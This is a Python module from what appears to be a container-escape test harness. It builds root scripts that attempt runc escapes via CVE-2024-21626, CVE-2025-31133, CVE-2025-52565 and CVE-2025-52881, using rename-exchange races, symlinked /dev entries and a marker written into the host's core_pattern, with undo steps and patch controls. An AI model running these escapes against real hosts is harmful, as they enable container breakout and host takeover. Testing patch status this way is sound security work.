"""Attempts of somebody who orders containers: image, words and volumes are theirs, nothing else.

Each aims at runc while it starts a container. `go` returns a script for the node's root, who stands
for the orchestrator and does as ordered; what the script prints is the answer. The races need two
containers that share a volume: one keeps exchanging two names in it while others start.
"""

from __future__ import annotations

from escape import bundle
from escape.attempt import Attempt, Case, attempt
from escape.bundle import Wish, bind

PYTHON = "/usr/bin/python3.13"
FLIP = """
import ctypes, random, time
c = ctypes.CDLL(None)
c.syscall.restype = ctypes.c_long
print('flips', flush=True)
while True:
    # renameat2, exchange: never a moment without the name
    c.syscall(316, -100, b'/share/{one}', -100, b'/share/{other}', 2)
    # Nobody knows how long the moment is: from 50 microseconds to 5 ms, anew every 4 seconds.
    now = time.monotonic()
    end = now + random.random() * 10 ** (-4.3 + now % 4 / 2)
    while time.monotonic() < end:
        pass
"""
SECONDS = 150
UNFIXED = "hole: runc 1.1.15 of Debian is not fixed (threat model); no setting makes such a mount"
CORE = "/proc/sys/kernel/core_pattern"
SEEN = f"cat {CORE}"
UNDO = f"echo '|/bin/false' > {CORE}"
FRESH = f"rm -rf {bundle.VOLUME}; mkdir -p {bundle.VOLUME}; cd {bundle.VOLUME}"
SHARED_DEVICES = bind(f"{bundle.VOLUME}/dev", "/dev")
NET = {
    "destination": "/share/way/net",
    "type": "bind",
    "source": f"{bundle.VOLUME}/links",
    "options": ["bind"],
}


def write_line(path: str, text: str) -> tuple[str, ...]:
    return (PYTHON, "-c", f"open({path!r}, 'w').write({hidden(text)}); print('written')")


def hidden(token: str) -> str:
    """TOKEN as an expression: a traceback that shows the program does not show it."""
    return f"{token[:4]!r} + {token[4:]!r}"


def once(wish: Wish, name: str, case: Case) -> str:
    config = bundle.ordered(wish, name, labelled=case.labelled)
    return f"{bundle.written(config, name)}\n{bundle.run(name)}"


def raced(wish: Wish, name: str, one: str, other: str, case: Case, seen: str = CORE) -> str:
    """Start WISH until the token is in SEEN, while a second container exchanges ONE and OTHER."""
    code = FLIP.format(one=one, other=other)
    flipper = bundle.ordered(Wish((PYTHON, "-c", code)), "flipper", labelled=case.labelled)
    again = (
        f"n=0; while [ $SECONDS -lt {SECONDS} ]; do n=$((n + 1)); "
        f"timeout 20 {bundle.run(name)} < /dev/tty > last 2>&1; "
        f"{bundle.RUNC} delete --force {name} 2> /dev/null; "
        f'case "$(cat {seen})" in *{case.token}*) break;; esac; done; '
        "echo try $n; tail -n 3 last"
    )
    lines = (
        bundle.written(flipper, "flipper"),
        f"{bundle.run('flipper', '--detach')} > /dev/null 2>&1 < /dev/null",
        bundle.written(bundle.ordered(wish, name, labelled=case.labelled), name),
        again,
        f"{bundle.RUNC} delete --force flipper",
    )
    return "\n".join(lines)


@attempt(
    "runc-leaked-descriptor",
    "CVE-2024-21626: process.cwd in /proc/self/fd",
    "orders every descriptor of the starting runc as the folder to start in",
    "the node's host program is found above that folder",
    control="fixed in runc 1.1.12, and the node has 1.1.15",
)
def leaked_descriptor(case: Case) -> str:
    look = (
        "import os; up = '../' * 9; "
        f"os.path.exists(up + 'usr/libexec/skyrocket/skyrocket') and print({hidden(case.token)})"
    )
    lines = []
    for number in range(3, 13):
        wish = Wish((PYTHON, "-c", look), cwd=f"/proc/self/fd/{number}")
        lines.append(f"{once(wish, f'cwd{number}', case)} 2>&1")
    return "\n".join(lines)


@attempt(
    "runc-masks-missing",
    "CVE-2025-31133, second attack: masked paths without a /dev/null",
    "orders a volume of its own as /dev, whose `null` is missing while runc hides paths with it",
    "a hidden file of the kernel is read",
    allowed={"ordered": UNFIXED},
)
def masks_missing(case: Case) -> str:
    read = (
        "text = open('/proc/timer_list').read(); "
        f"print(len(text), {hidden(case.token)} if 'Timer List' in text else '')"
    )
    wish = Wish((PYTHON, "-c", read), (SHARED_DEVICES,))
    place = f"{FRESH}; mkdir dev; touch dev/null; ln -s /nowhere dev/other"
    return f"{place}\n{raced(wish, 'masks', 'dev/null', 'dev/other', case, 'last')}"


@attempt(
    "runc-masks-moved",
    "CVE-2025-31133, first attack: masked paths bound from a /dev/null that is a link",
    "orders a volume of its own as /dev, whose `null` is a link to a kernel's setting",
    "the node's core_pattern has its text",
    seen=SEEN,
    undo=UNDO,
    control="what is bound is bound as it is, and runc 1.1.15 has made /proc/sys read-only by then",
)
def masks_moved(case: Case) -> str:
    wish = Wish(write_line("/proc/timer_list", f"|/{case.token}"), (SHARED_DEVICES,))
    return f"{FRESH}; mkdir dev; ln -s {CORE} dev/null\n{once(wish, 'moved', case)} 2>&1"


@attempt(
    "runc-console",
    "CVE-2025-52565: /dev/console bound from a terminal that is a link",
    "orders a terminal and a volume of its own as /dev, where the terminal's name changes between "
    "a terminal and a link to a kernel's setting",
    "the node's core_pattern has its text",
    seen=SEEN,
    undo=UNDO,
    allowed={"ordered": UNFIXED},
)
def console(case: Case) -> str:
    terminals = {**bundle.TERMINALS, "destination": "/terminals"}
    wish = Wish(
        write_line("/dev/console", f"|/{case.token}"), (SHARED_DEVICES, terminals), terminal=True
    )
    place = (
        f"{FRESH}; mkdir -p dev/pts; ln -s /terminals/ptmx dev/ptmx; touch dev/console dev/null; "
        f"ln -s /terminals/0 dev/pts/0; ln -s {CORE} dev/pts/other"
    )
    return f"{place}\n{raced(wish, 'console', 'dev/pts/0', 'dev/pts/other', case)}"


@attempt(
    "runc-procfs-redirect",
    "CVE-2025-52881: runc's writes to /proc led elsewhere",
    "orders a sysctl, and a volume whose second mount lands on /proc/sys/net where links wait",
    "the node's core_pattern has the sysctl's value",
    seen=SEEN,
    undo=UNDO,
    allowed={"ordered": UNFIXED},
)
def procfs_redirect(case: Case) -> str:
    wish = Wish(
        (PYTHON, "-c", "print('started')"),
        (bundle.DEVICES, bundle.TERMINALS, NET),
        sysctl={"net.ipv4.ping_group_range": f"|/{case.token}"},
    )
    place = (
        f"{FRESH}; mkdir -p links/ipv4 way/net; ln -s /proc/sys other; "
        f"ln -s {CORE} links/ipv4/ping_group_range"
    )
    return f"{place}\n{raced(wish, 'redirect', 'way', 'other', case)}"


ORDERS: tuple[Attempt, ...] = tuple(
    value for value in list(vars().values()) if isinstance(value, Attempt)
)
